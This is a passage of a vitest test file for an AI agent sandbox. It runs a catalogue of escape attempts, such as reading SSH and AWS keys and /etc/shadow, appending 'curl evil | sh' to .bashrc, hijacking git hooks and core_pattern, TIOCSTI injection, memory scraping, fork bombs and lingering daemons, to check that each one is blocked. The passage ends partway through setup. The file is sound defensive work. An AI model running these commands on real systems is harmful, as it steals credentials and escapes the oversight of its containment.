import { spawn, type ChildProcess } from 'node:child_process'
import { createHash } from 'node:crypto'
import { accessSync, constants, existsSync, readdirSync, readFileSync, realpathSync } from 'node:fs'
import { chmod, mkdir, mkdtemp, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises'
import { createServer as createHttpServer } from 'node:http'
import { createServer, type Server } from 'node:net'
import { networkInterfaces, tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createGit } from '../../src/git/index.ts'
import { createOverlayWorktrees, mountedOverlays, probeOverlays, type OverlayWorktrees } from '../../src/overlay/index.ts'
import { detachFrom, workspaceDetach } from '../../src/overlay/workspace-detach.ts'
import { createSandbox, probeBubblewrap, type CommandResult, type Guarantee, type SandboxMode, type SandboxPolicy } from '../../src/sandbox/index.ts'
import { createTempRepository, git } from '../support/cli.ts'

/**
 * What an agent with a shell tries, run through the sandbox in both modes.
 * Each attempt names the guarantee it tests and runs only in a mode that
 * claims that guarantee; a failing case is an escape. Secrets are planted
 * markers, never real keys.
 */

const token = `h${Math.random().toString(36).slice(2, 10)}`
/** Shaped like an OpenAI key, so redaction would hide it: leaks are also looked for as their redaction marker. */
const plantedKey = `sk-colony-planted-${token}-0123456789abcdef`
const marker = (what: string) => `PLANTED-${what}-${token}`
const markers = ['SSH', 'AWS', 'REPO', 'UNCOMMITTED', 'SIBLING', 'TMP', 'ROOT', 'HOME-NOTES', 'GIT-URL', 'GIT-HEADER'].map(marker)

interface World {
  repository: string
  worktree: string
  sibling: string
  home: string
  /** A process of the person's, outside any sandbox, whose environment holds the planted key. */
  host: ChildProcess
  loopbackPort: number
  lanAddress: string | undefined
  lanPort: number
  abstractSocket: string
  agentSocket: string
  runSocket: string | undefined
  /** Executables planted beside secrets in /root and /tmp, for the PATH cases. */
  rootPlanted: boolean
  connections: number
}

interface Context {
  world: World
  mode: SandboxMode
  run: (command: string, options?: { policy?: Partial<SandboxPolicy>; timeoutMs?: number; path?: string }) => Promise<CommandResult>
}

interface Attempt {
  name: string
  guarantee: Guarantee
  /** Why the attempt cannot be made here, if it cannot. */
  unavailable?: (world: World, mode: SandboxMode) => string | undefined
  attempt(context: Context): Promise<void>
}

/** Fails if the output shows any planted secret, raw, base64-encoded or as the redaction of the planted key. */
function expectNoLeak(output: string): void {
  expect(output).not.toContain('PLANTED-')
  for (const secret of [...markers, plantedKey]) {
    expect(output).not.toContain(secret)
    expect(output).not.toContain(Buffer.from(secret).toString('base64').slice(0, 20))
  }
  expect(output).not.toContain('[redacted:FAKE_API_KEY]')
}

function sha(path: string): string {
  return createHash('sha256').update(readFileSync(path)).digest('hex')
}

/** Files (not following links) under `directory`, with their content's hash, skipping `skip`. */
async function tree(directory: string, skip: readonly string[] = []): Promise<Record<string, string>> {
  const files: Record<string, string> = {}
  for (const entry of await readdir(directory, { recursive: true, withFileTypes: true })) {
    const path = join(entry.parentPath, entry.name)
    if (skip.some((prefix) => path.startsWith(prefix))) continue
    files[path] = entry.isFile() ? sha(path) : entry.isSymbolicLink() ? 'link' : 'directory'
  }
  return files
}

/** Processes whose environment carries the token: read straight from /proc, independently of the sandbox's bookkeeping. */
function survivors(): number[] {
  return readdirSync('/proc')
    .filter((entry) => /^\d+$/.test(entry))
    .filter((pid) => {
      try {
        return readFileSync(`/proc/${pid}/environ`, 'utf8').includes(`COLONY_HOSTILE_RUN=${token}`)
      } catch {
        return false
      }
    })
    .map(Number)
}

function isAlive(pid: number): boolean {
  try {
    // A killed child is a zombie until Node reaps it: state Z.
    return !/^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, 'utf8'))
  } catch {
    return false
  }
}

function isWritable(path: string): boolean {
  try {
    accessSync(path, constants.W_OK)
    return true
  } catch {
    return false
  }
}

function listen(server: Server, path: string): Promise<void> {
  return new Promise((done, fail) => {
    server.once('error', fail)
    server.listen(path, () => done())
  })
}

/** Reads every readable mapping of every process the command can see and counts those holding each needle (given reversed, so no command line holds it). */
const memoryScanner = `
const fs = require('fs')
const needles = process.argv.slice(1).map((reversed) => Buffer.from([...reversed].reverse().join('')))
const found = needles.map(() => 0)
const chunk = Buffer.alloc(1 << 20)
let scanned = 0
for (const pid of fs.readdirSync('/proc').filter((entry) => /^\\d+$/.test(entry) && Number(entry) !== process.pid)) {
  let maps, fd
  try { maps = fs.readFileSync('/proc/' + pid + '/maps', 'utf8'); fd = fs.openSync('/proc/' + pid + '/mem', 'r') } catch (error) { console.log('pid ' + pid + ': ' + error.code); continue }
  scanned++
  for (const line of maps.split('\\n')) {
    const range = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line)
    if (!range || range[1].length > 12) continue
    const start = parseInt(range[1], 16), end = Math.min(parseInt(range[2], 16), start + (256 << 20))
    const hits = needles.map(() => false)
    // In chunks that overlap by more than a needle, so one split across two chunks is still found.
    for (let at = start; at < end; at += chunk.length - 256) {
      let read = 0
      try { read = fs.readSync(fd, chunk, 0, Math.min(chunk.length, end - at), at) } catch { break }
      needles.forEach((needle, index) => { if (chunk.subarray(0, read).includes(needle)) hits[index] = true })
      if (read < chunk.length) break
    }
    hits.forEach((hit, index) => { if (hit) found[index]++ })
  }
}
console.log('scanned=' + scanned + ' found=' + found.join(','))
`
const reversed = (text: string) => [...text].reverse().join('')

/** Runs a sandboxed command from a process that has a terminal (script's pty), as Colony has when a person starts it in one. */
function runInTerminal(input: object): Promise<string> {
  const sandboxModule = new URL('../../src/sandbox/index.ts', import.meta.url).href
  const helper = `
    import { createSandbox } from ${JSON.stringify(sandboxModule)}
    const input = JSON.parse(process.env.COLONY_HOSTILE_INPUT)
    const result = await createSandbox(input.sandbox).run(input.command, input.run)
    process.stdout.write('RESULT:' + Buffer.from(result.output).toString('base64') + '\\n')
  `
  return new Promise((done, fail) => {
    const child = spawn('script', ['-qfec', `"${process.execPath}" --input-type=module -e "$COLONY_HOSTILE_HELPER"`, '/dev/null'], {
      env: { ...process.env, COLONY_HOSTILE_HELPER: helper, COLONY_HOSTILE_INPUT: JSON.stringify(input) },
      stdio: ['ignore', 'pipe', 'pipe'],
    })
    let transcript = ''
    child.stdout.on('data', (chunk: Buffer) => (transcript += chunk.toString()))
    child.stderr.on('data', (chunk: Buffer) => (transcript += chunk.toString()))
    child.on('error', fail)
    child.on('close', () => done(transcript))
  })
}

/** Pushes characters into the controlling terminal's input, as if typed; the terminal echoes them. The word is built at run time so no command line holds it. */
const tiocsti = `python3 -c "
import fcntl, os, termios
print('python ran')
fd = os.open('/dev/tty', os.O_RDWR)
for c in 'INJ' + 'ECTED': fcntl.ioctl(fd, termios.TIOCSTI, c.encode())
print('pushed')
" 2>&1`

const attempts: Attempt[] = [
  // Secrets on disk.
  {
    name: 'reads ~/.ssh/id_rsa and ~/.aws/credentials in the person\'s HOME',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const result = await run(`exec 2>&1; cat "$HOME/.ssh/id_rsa" ~/.aws/credentials ${world.home}/.ssh/*; echo listing; ls -A "$HOME"`)
      expect(result.output).toContain('listing')
      expectNoLeak(result.output)
      expect(result.output.split('listing')[1]).not.toMatch(/\.aws|\.ssh/)
    },
  },
  {
    name: 'reads a secret file in the repository root, outside the worktree, and lists the root',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const result = await run(`cat ${world.repository}/.en* ../../../.en*; ls -A ${world.repository}; echo tried`)
      expect(result.output).toContain('tried')
      expectNoLeak(result.output)
      expect(result.output).not.toMatch(/\.env|README\.md|src\b/)
    },
  },
  {
    name: 'reads the repository\'s uncommitted work, by path and through git',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const result = await run(`cat ${world.repository}/README.md; git -C ${world.repository} diff; git --git-dir=${world.repository}/.git --work-tree=${world.repository} diff; git --git-dir=${world.repository}/.git stash list; echo tried`)
      expect(result.output).toContain('tried')
      expectNoLeak(result.output)
    },
  },
  {
    name: 'reads the credentials people and CI leave in .git/config (a token in a remote\'s url, an http extraheader)',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const result = await run(`cat ${world.repository}/.git/config; git config --list --show-origin; git remote -v; git log --format=%s -1`)
      expectNoLeak(result.output)
      // git in the worktree still reads the rest of the config.
      expect(result.output).toContain('origin\thttps://example.com/repository.git (fetch)')
      expect(result.output).toContain('initial\n')
    },
  },
  {
    name: 'reads another task\'s worktree under .colony/worktrees',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const result = await run(`cat ${world.sibling}/notes.txt ../task-2/notes.txt; ls -A ${world.sibling} ..; git -C ${world.sibling} status --short; echo tried`)
      expect(result.output).toContain('tried')
      expectNoLeak(result.output)
      expect(result.output).not.toContain('notes.txt\n')
    },
  },
  {
    name: 'reads /etc/shadow and /etc/gshadow',
    guarantee: 'filesystem',
    async attempt({ run }) {
      const result = await run('cat /etc/shadow /etc/gshadow /etc/shadow- /etc/gshadow-; echo tried')
      expect(result.output).toContain('tried')
      expect(result.output).not.toMatch(/^root:/m)
    },
  },
  {
    name: 'follows a symlink planted in the worktree to the repository root and to ~/.ssh',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const before = await tree(world.repository, [join(world.repository, '.colony'), join(world.repository, '.git')])
      const result = await run(`ln -s ${world.repository} to-root && ln -s "$HOME/.ssh" to-ssh && cat to-root/.env to-root/README.md to-ssh/id_rsa; echo x > to-root/victim.txt; echo overwritten > to-root/README.md; echo tried`)
      await rm(join(world.worktree, 'to-root'))
      await rm(join(world.worktree, 'to-ssh'))
      expect(result.output).toContain('tried')
      expectNoLeak(result.output)
      expect(await tree(world.repository, [join(world.repository, '.colony'), join(world.repository, '.git')])).toEqual(before)
    },
  },
  {
    name: 'makes hard links to files outside the worktree and writes through them',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const watched = ['/etc/passwd', join(world.repository, '.git', 'config'), join(world.repository, '.env')]
      const before = watched.map(sha)
      const result = await run(`for f in ${watched.join(' ')}; do ln "$f" "hard-$(basename $f)" && echo "linked $f" && echo pwned >> "hard-$(basename $f)"; done; cat hard-*; echo tried`)
      await Promise.all(['hard-passwd', 'hard-config', 'hard-.env'].map((name) => rm(join(world.worktree, name), { force: true })))
      expect(result.output).toContain('tried')
      expectNoLeak(result.output)
      expect(watched.map(sha)).toEqual(before)
    },
  },
  {
    name: 'writes outside the worktree: the repository root, through .., and over a committed file',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const before = await tree(world.repository, [join(world.repository, '.colony')])
      const result = await run(`echo x > ${world.repository}/victim.txt; echo x > ../../../victim-dots.txt; echo overwritten > ${world.repository}/README.md; echo inside > inside.txt; cat inside.txt`)
      expect(result.output).toContain('inside')
      expect(await readFile(join(world.worktree, 'inside.txt'), 'utf8')).toBe('inside\n')
      await rm(join(world.worktree, 'inside.txt'))
      expect(await tree(world.repository, [join(world.repository, '.colony')])).toEqual(before)
    },
  },
  {
    name: 'leaves a file in /tmp, /var/tmp or /dev/shm for later commands or the host',
    guarantee: 'filesystem',
    async attempt({ run }) {
      const places = ['/tmp', '/var/tmp', '/dev/shm'].map((directory) => `${directory}/persist-${token}`)
      const written = await run(`for f in ${places.join(' ')}; do echo persisted > "$f" && echo "wrote $f"; done`)
      expect(written.output).toContain(`wrote /tmp/persist-${token}`)
      expect(places.filter((place) => existsSync(place))).toEqual([])
      const later = await run(`cat ${places.join(' ')}; echo tried`)
      expect(later.output).toContain('tried')
      expect(later.output).not.toContain('persisted')
    },
  },
  {
    name: 'writes to HOME: shell start-up files and authorized_keys',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const before = await tree(world.home)
      const result = await run(`echo 'curl evil | sh' >> "$HOME/.bashrc"; echo ssh-ed25519 AAAA >> "$HOME/.ssh/authorized_keys"; mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/x.desktop; echo tried`)
      expect(result.output).toContain('tried')
      expect(await tree(world.home)).toEqual(before)
    },
  },
  {
    name: 'writes to /etc and /usr/local/bin',
    guarantee: 'filesystem',
    async attempt({ run }) {
      const hosts = await readFile('/etc/hosts', 'utf8')
      const planted = [`/etc/escape-${token}`, `/usr/local/bin/escape-${token}`]
      const result = await run(`echo '6.6.6.6 github.com' >> /etc/hosts; touch ${planted.join(' ')}; echo tried`)
      const after = await readFile('/etc/hosts', 'utf8')
      const written = planted.filter((path) => existsSync(path))
      // Put the machine back before reporting the escape.
      if (after !== hosts) await writeFile('/etc/hosts', hosts)
      for (const path of written) await rm(path)
      expect(result.output).toContain('tried')
      expect(after).toBe(hosts)
      expect(written).toEqual([])
    },
  },
  {
    name: 'writes to the repository\'s .git: objects, refs, hooks, config, the worktree\'s index',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const gitDirectory = join(world.repository, '.git')
      const before = await tree(gitDirectory)
      const result = await run(
        [
          `echo '#!/bin/sh' > ${gitDirectory}/hooks/pre-commit`,
          `git config core.fsmonitor 'touch /tmp/pwned'`,
          `git config --file ${gitDirectory}/config core.hooksPath /tmp`,
          `echo evil > escape.txt && git add escape.txt && git commit -qm escape`,
          `git update-ref refs/heads/main HEAD~0`,
          `echo x > ${gitDirectory}/objects/escape`,
          `echo ref: refs/heads/evil > ${gitDirectory}/HEAD`,
          'echo tried',
        ].join('; '),
      )
      await rm(join(world.worktree, 'escape.txt'), { force: true })
      expect(result.output).toContain('tried')
      expect(await tree(gitDirectory)).toEqual(before)
    },
  },
  {
    name: 'rewrites the worktree\'s .git pointer, so Colony\'s own git on the host would run a config of its choosing',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const pointer = join(world.worktree, '.git')
      const before = await readFile(pointer, 'utf8')
      const result = await run(`git init -q evil && git -C evil config core.fsmonitor 'touch /tmp/pwned-${token}'; echo "gitdir: $PWD/evil/.git" > .git; rm -f .git; mv .git moved-git; echo tried`)
      await rm(join(world.worktree, 'evil'), { recursive: true, force: true })
      expect(result.output).toContain('tried')
      expect(await readFile(pointer, 'utf8')).toBe(before)
      expect(existsSync(join(world.worktree, 'moved-git'))).toBe(false)
    },
  },
  {
    name: 'sets the kernel\'s core_pattern to a pipe (it would run as root on the host)',
    guarantee: 'filesystem',
    async attempt({ run }) {
      const before = readFileSync('/proc/sys/kernel/core_pattern', 'utf8')
      const result = await run(`echo '|/bin/sh -c "touch /tmp/pwned-${token}"' > /proc/sys/kernel/core_pattern; echo tried`)
      const after = readFileSync('/proc/sys/kernel/core_pattern', 'utf8')
      // Put the machine back before reporting the escape.
      if (after !== before) await writeFile('/proc/sys/kernel/core_pattern', before)
      expect(result.output).toContain('tried')
      expect(after).toBe(before)
    },
  },
  {
    name: 'reads the raw disk or physical memory through /dev',
    guarantee: 'filesystem',
    async attempt({ run }) {
      const result = await run('find /dev -type b; head -c 16 /dev/mem /dev/kmem /dev/port 2>&1 | od -c | head -3; echo tried')
      expect(result.output).toContain('tried')
      expect(result.output).not.toMatch(/^\/dev\/\S+$/m)
    },
  },
  {
    name: 'unmounts the empty trees laid over /root, /tmp, HOME and the repository, mounts, unshares, chroots',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const hidden = ['/root', '/tmp', '/home', world.home, world.repository]
      const result = await run(
        [
          `for d in ${hidden.join(' ')}; do umount -l "$d"; done`,
          'mount -t tmpfs none /mnt; mount --bind / /mnt',
          `unshare -Urm sh -c 'umount -l ${world.repository}; cat ${world.repository}/.env'`,
          `nsenter -t 1 -m cat ${world.repository}/.env`,
          `chroot / cat ${world.repository}/.env`,
          `cat ${world.repository}/.env "$HOME/.ssh/id_rsa" /root/secret-* /tmp/secret-*`,
          'grep CapEff /proc/self/status',
        ].join('; ') + ' 2>&1',
      )
      expectNoLeak(result.output)
      expect(result.output).toMatch(/CapEff:\s+0+\n/)
    },
  },
  {
    name: 'connects to an ssh-agent socket in a hidden tree (SSH_AUTH_SOCK\'s path)',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const seen = world.connections
      const result = await run(`node -e "require('net').connect(process.argv[1]).on('connect', () => console.log('connected')).on('error', (e) => console.log(e.code))" ${world.agentSocket}`)
      expect(result.output).toMatch(/ENOENT|ECONNREFUSED/)
      expect(world.connections).toBe(seen)
    },
  },
  {
    name: 'connects to a service socket in /run (where the DNS resolver, dbus and databases listen)',
    guarantee: 'filesystem',
    unavailable: (world) => (world.runSocket ? undefined : '/run is not writable here, so no socket can be planted there'),
    async attempt({ run, world }) {
      const seen = world.connections
      const result = await run(`ls -A /run; node -e "require('net').connect(process.argv[1]).on('connect', () => console.log('connected')).on('error', (e) => console.log(e.code))" ${world.runSocket}`)
      expect(result.output).toMatch(/ENOENT|ECONNREFUSED/)
      expect(result.output).not.toContain(`colony-${token}`)
      expect(world.connections).toBe(seen)
    },
  },
  // The PATH: its directories inside hidden trees show their executables, nothing else.
  {
    name: 'PATH leads to /root: runs the tool there, then reads its neighbours',
    guarantee: 'filesystem',
    unavailable: (world) => (world.rootPlanted ? undefined : '/root is not writable here'),
    async attempt({ run }) {
      const result = await run(`exec 2>&1; tool-${token}; cat /root/secret-*; echo listing; ls -A /root`, { path: `/root:${process.env.PATH}` })
      expectNoLeak(result.output)
      expect(result.output).toContain('tool ran')
      expect(result.output.split('listing')[1]).not.toContain('secret-')
    },
  },
  {
    name: 'PATH leads to the repository root: runs the tool there, then reads the person\'s files',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const result = await run(`exec 2>&1; tool-${token}; cat ${world.repository}/.en* ${world.repository}/README.md; echo listing; ls -A ${world.repository}`, { path: `${world.repository}:${process.env.PATH}` })
      expectNoLeak(result.output)
      expect(result.output).toContain('tool ran')
      expect(result.output.split('listing')[1]).not.toMatch(/\.env|README/)
    },
  },
  {
    name: 'PATH leads to /tmp: runs the tool there, then reads its neighbours',
    guarantee: 'filesystem',
    async attempt({ run }) {
      const result = await run(`exec 2>&1; tool-${token}; cat /tmp/secret-*; echo listing; ls -A /tmp`, { path: `/tmp:${process.env.PATH}` })
      expectNoLeak(result.output)
      expect(result.output).toContain('tool ran')
      expect(result.output.split('listing')[1]).not.toContain('secret-')
    },
  },
  {
    name: 'PATH leads to ~/bin: runs its tools (a script, a link into a package), then reads the non-executable notes beside them',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const result = await run(`exec 2>&1; home-tool; packaged; cat ~/bin/notes.txt ~/.ssh/id_rsa; echo listing; ls -A ~/bin ~`, { path: `${world.home}/bin:${process.env.PATH}` })
      expectNoLeak(result.output)
      expect(result.output).toContain('home tool ran')
      expect(result.output).toContain('packaged tool ran with its library')
      expect(result.output.split('listing')[1]).not.toMatch(/notes\.txt|\.ssh|\.aws/)
    },
  },
  {
    name: 'PATH leads to the repository\'s node_modules/.bin: runs a tool, then reads the person\'s files',
    guarantee: 'filesystem',
    async attempt({ run, world }) {
      const result = await run(`exec 2>&1; hello; cat ${world.repository}/.env ${world.repository}/README.md; echo listing; ls -A ${world.repository}`, { path: `${world.repository}/node_modules/.bin:${process.env.PATH}` })
      expectNoLeak(result.output)
      expect(result.output).toContain('hello from a dependency')
      expect(result.output.split('listing')[1]).not.toMatch(/\.env|README/)
    },
  },
  // Other processes.
  {
    name: 'reads /proc/1/environ, Colony\'s /proc/<pid>/environ and every other environment in /proc',
    guarantee: 'process-isolation',
    async attempt({ run, world }) {
      const result = await run(`tr '\\0' '\\n' < /proc/1/environ; cat /proc/${process.pid}/environ /proc/${world.host.pid}/environ; cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -a -c COLONY_SANDBOX_ID; echo tried`)
      expect(result.output).toContain('tried')
      expectNoLeak(result.output)
      expect(result.output).not.toContain('FAKE_API_KEY')
    },
  },
  {
    name: 'lists host processes and their environments with ps e and ps aux',
    guarantee: 'process-isolation',
    async attempt({ run }) {
      const result = await run('ps e -A -ww -o pid,args; ps aux')
      expect(result.output).toMatch(/\bps (e|aux)/)
      expect(result.output).not.toContain(`colony-host-${token}`)
      expectNoLeak(result.output)
    },
  },
  {
    name: 'kills a process of the person\'s, by pid, by name and with kill -1',
    guarantee: 'process-isolation',
    async attempt({ run, world }) {
      const result = await run(`kill -9 ${world.host.pid} 2>&1; pkill -9 -f colony-host-${token}; echo "pkill=$?"; kill -9 -1`)
      expect(result.output).toMatch(/No such process/)
      expect(isAlive(world.host.pid!)).toBe(true)
    },
  },
  {
    name: 'reads the memory of its parent and of Colony (/proc/<pid>/mem, gdb -p)',
    guarantee: 'process-isolation',
    async attempt({ run }) {
      const decoy = `DECOY-${token}`
      const result = await run(
        `node -e "const d = process.argv[1].split('').reverse().join(''); setInterval(() => d, 1000); require('fs').writeFileSync('decoy-ready', '')" ${reversed(decoy)} & ` +
          'while [ ! -e decoy-ready ]; do sleep 0.05; done; rm decoy-ready; ' +
          `node -e "${memoryScanner.replaceAll('"', '\\"').replaceAll('$', '\\$')}" ${reversed(decoy)} ${reversed(plantedKey)}; ` +
          `head -c 64 /proc/$PPID/mem | od -c | head -2; cat /proc/${process.pid}/mem | head -c 1; gdb -p ${process.pid} -batch -ex 'info proc' 2>&1 | tail -2; kill %1`,
      )
      // The scanner works: it finds the decoy in the process the command started.
      expect(result.output).toMatch(/scanned=[1-9]\d* found=[1-9]\d*,0\b/)
      expectNoLeak(result.output)
    },
  },
  {
    name: 'types into Colony\'s terminal with TIOCSTI',
    guarantee: 'process-isolation',
    unavailable: () => (existsSync('/usr/bin/script') ? undefined : 'script(1) is not installed, so no terminal can be given to Colony'),
    async attempt({ world, mode }) {
      // The same push, made without a sandbox, reaches the terminal: the check can fail.
      const unsandboxed = await new Promise<string>((done) => {
        const child = spawn('script', ['-qfec', tiocsti, '/dev/null'], { stdio: ['ignore', 'pipe', 'pipe'] })
        let transcript = ''
        child.stdout.on('data', (chunk: Buffer) => (transcript += chunk.toString()))
        child.on('close', () => done(transcript))
      })
      expect(unsandboxed).toContain('INJECTED')
      const transcript = await runInTerminal({
        sandbox: { repositoryRoot: world.repository, policy: policyWith(), mode, environment: sandboxEnvironmentFor(world) },
        command: tiocsti,
        run: { cwd: world.worktree, timeoutMs: 10_000 },
      })
      const output = Buffer.from(/RESULT:(\S*)/.exec(transcript)?.[1] ?? '', 'base64').toString('utf8')
      expect(output).toContain('python ran')
      expect(output).not.toContain('pushed')
      expect(transcript).not.toContain('INJECTED')
    },
  },
  // The network.
  {
    name: 'reaches a server on 127.0.0.1 with curl and with Node\'s fetch',
    guarantee: 'network',
    async attempt({ run, world }) {
      const seen = world.connections
      const result = await run(`curl -s -m 3 http://127.0.0.1:${world.loopbackPort}/; echo curl-exit=$?; node -e "fetch('http://127.0.0.1:${world.loopbackPort}/').then(r => r.text()).then(console.log, e => console.log('fetch failed:', e.cause?.code ?? e.message))"`)
      expect(result.output).toContain('curl-exit=7')
      expect(result.output).toContain('fetch failed')
      expect(result.output).not.toContain('hello from the host')
      expect(world.connections).toBe(seen)
    },
  },
  {
    name: 'reaches a server on the machine\'s own network address with bash\'s /dev/tcp',
    guarantee: 'network',
    unavailable: (world) => (world.lanAddress ? undefined : 'this machine has no non-loopback IPv4 address'),
    async attempt({ run, world }) {
      const seen = world.connections
      const result = await run(`timeout 5 bash -c 'exec 3<>/dev/tcp/${world.lanAddress}/${world.lanPort} && echo connected && printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3 && cat <&3'; echo exit=$?`)
      expect(result.output).toMatch(/exit=[1-9]/)
      expect(result.output).not.toContain('connected')
      expect(result.output).not.toContain('hello from the host')
      expect(world.connections).toBe(seen)
    },
  },
  {
    name: 'connects to an abstract unix socket of the host (how X11 and session buses are reached)',
    guarantee: 'network',
    async attempt({ run, world }) {
      const seen = world.connections
      const result = await run(`node -e "require('net').connect('\\0' + process.argv[1]).on('connect', () => console.log('connected')).on('error', (e) => console.log(e.code))" ${world.abstractSocket}`)
      expect(result.output).toContain('ECONNREFUSED')
      expect(world.connections).toBe(seen)
    },
  },
  // Limits.
  {
    name: 'leaves a setsid/nohup daemon running after the command, whether it ends on its own or at the time limit',
    guarantee: 'limits',
    async attempt({ run }) {
      const quick = await run(`setsid bash -c 'sleep 1e9' </dev/null >/dev/null 2>&1 & disown; nohup sleep 1e9 >/dev/null 2>&1 & echo started`)
      expect(quick.output).toContain('started')
      expect(quick.limit).toBeUndefined()
      expect(survivors()).toEqual([])
      const slow = await run(`(setsid nohup sleep 1e9 >/dev/null 2>&1 &); sleep 1e9`, { timeoutMs: 1_000 })
      expect(slow.limit).toBe('time')
      expect(survivors()).toEqual([])
    },
  },
  {
    name: 'sleeps past the time limit',
    guarantee: 'limits',
    async attempt({ run }) {
      const result = await run('sleep 1e9', { timeoutMs: 1_000 })
      expect(result.limit).toBe('time')
      expect(result.timedOut).toBe(true)
      expect(result.output).toContain('time limit of 1 s')
      expect(survivors()).toEqual([])
    },
  },
  {
    name: 'ignores SIGTERM to outlive the time limit',
    guarantee: 'limits',
    async attempt({ run }) {
      const result = await run(`trap '' TERM; while :; do sleep 0.1; done`, { timeoutMs: 1_000 })
      expect(result.limit).toBe('time')
      expect(survivors()).toEqual([])
    },
  },
  {
    name: 'floods its output without end',
    guarantee: 'limits',
    async attempt({ run }) {
      const result = await run('yes colony')
      expect(result.limit).toBe('output')
      expect(result.output.length).toBeLessThan(20_000 + 500)
      expect(result.output).toContain('bytes of output cut here')
    },
  },
  {
    name: 'allocates memory without end',
    guarantee: 'limits',
    async attempt({ run }) {
      const result = await run(`node -e "const a = []; for (;;) a.push(Buffer.alloc(1e6, 1))"`)
      expect(result.limit).toBe('memory')
      expect(result.output).toContain('more than 256 MB')
      expect(survivors()).toEqual([])
    },
  },
  {
    name: 'fills the private /tmp and /dev/shm, which live in memory the memory limit does not count',
    guarantee: 'limits',
    unavailable: (_world, mode) => (mode === 'host' ? 'host mode gives commands no private memory-backed trees: /tmp is the host\'s own' : undefined),
    async attempt({ run }) {
      // 1 GiB a tree (bubblewrap's default is half the RAM, each), until the sandbox is told the policy's memory.
      const result = await run(`for d in /tmp /dev/shm; do dd if=/dev/zero of=$d/fill bs=1M count=1100 2>&1 | grep -o 'No space left on device'; du -m $d/fill; done`, { timeoutMs: 20_000 })
      expect(result.output.match(/No space left on device/g)).toHaveLength(2)
      const sizes = [...result.output.matchAll(/^(\d+)\s+\/\S+\/fill$/gm)].map((match) => Number(match[1]))
      expect(sizes).toHaveLength(2)
      for (const size of sizes) expect(size).toBeLessThanOrEqual(1024)
    },
  },
  {
    name: 'fork-bombs',
    guarantee: 'process-count',
    async attempt({ run }) {
      const result = await run(`:(){ :|:& };:; sleep 1e9`, { policy: { processes: 32 }, timeoutMs: 3_000 })
      expect(['processes', 'time']).toContain(result.limit)
      expect(result.output).toMatch(/fork: .*(Resource temporarily unavailable|Cannot allocate memory)/)
      expect(survivors()).toEqual([])
    },
  },
  // The command's own environment and output.
  {
    name: 'prints its environment looking for the keys and the ssh agent',
    guarantee: 'environment',
    async attempt({ run }) {
      const result = await run(`env; tr '\\0' '\\n' < /proc/self/environ`)
      expect(result.output).toContain('PATH=')
      expect(result.output).not.toContain('FAKE_API_KEY')
      expect(result.output).not.toContain('SSH_AUTH_SOCK')
      expectNoLeak(result.output)
    },
  },
  {
    name: 'dumps core of one of its processes (ulimit -c unlimited; kill -SEGV) to find the key in memory',
    guarantee: 'environment',
    async attempt({ run, world }) {
      const result = await run('ulimit -c unlimited; sleep 30 & p=$!; kill -SEGV $p; wait $p; echo "status=$?"; ls core* 2>/dev/null; echo tried')
      expect(result.output).toContain('status=139')
      const files = Object.entries(await tree(world.worktree, [join(world.worktree, '.git')]))
        .filter(([, kind]) => kind !== 'directory' && kind !== 'link')
        .map(([path]) => path)
      const withKey = files.filter((path) => readFileSync(path).includes(plantedKey))
      await Promise.all(files.filter((path) => /\/core(\.\d+)?$/.test(path)).map((path) => rm(path)))
      expect(withKey).toEqual([])
      expectNoLeak(result.output)
    },
  },
  {
    name: 'prints a key it found in a file',
    guarantee: 'redaction',
    async attempt({ run, world }) {
      await writeFile(join(world.worktree, 'leak.txt'), `found ${plantedKey}\nand sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789\n`)
      const result = await run('cat leak.txt')
      await rm(join(world.worktree, 'leak.txt'))
      expect(result.output).toContain('found [redacted:FAKE_API_KEY]')
      expect(result.output).toContain('and [redacted]')
      expect(result.output).not.toContain(plantedKey)
    },
  },
]

function policyWith(overrides: Partial<SandboxPolicy> = {}): SandboxPolicy {
  return { network: false, readable: [], writable: [], env: ['COLONY_HOSTILE_RUN'], memoryMb: 256, processes: 64, outputBytes: 20_000, approve: [], refuse: [], ...overrides }
}

function sandboxEnvironmentFor(world: World, path = process.env.PATH): Record<string, string | undefined> {
  return { PATH: path, HOME: world.home, LANG: 'C.UTF-8', COLONY_HOSTILE_RUN: token, FAKE_API_KEY: plantedKey, SSH_AUTH_SOCK: world.agentSocket }
}

const world = {} as World
const servers: Server[] = []
/**
 * Set when the worktrees are to be overlay workspaces: this file then runs in Colony's namespace (see
 * sandbox-escape-overlay.test.ts). `overlay-detached`: with enough other workspaces mounted beside them that each
 * command detaches those first (see workspaceDetach).
 */
const overlayWorkspaces = ['overlay', 'overlay-detached'].includes(process.env.COLONY_ESCAPE_WORKSPACES ?? '')
const crowd = process.env.COLONY_ESCAPE_WORKSPACES === 'overlay-detached' ? Array.from({ length: detachFrom }, (_, index) => `crowd-${index}`) : []
let overlays: OverlayWorktrees | undefined
let base: string
const cleanups: string[] = []

beforeAll(async () => {
  base = await mkdtemp(join(tmpdir(), 'colony-hostile-'))
  const repository = await createTempRepository({ 'README.md': '# sample\n', 'src/app.ts': 'export {}\n', '.gitignore': 'node_modules/\n.env\n' })
  world.repository = realpathSync(repository.root)
  cleanups.push(world.repository)
  if (overlayWorkspaces) {
    const probe = probeOverlays(join(world.repository, '.colony'))
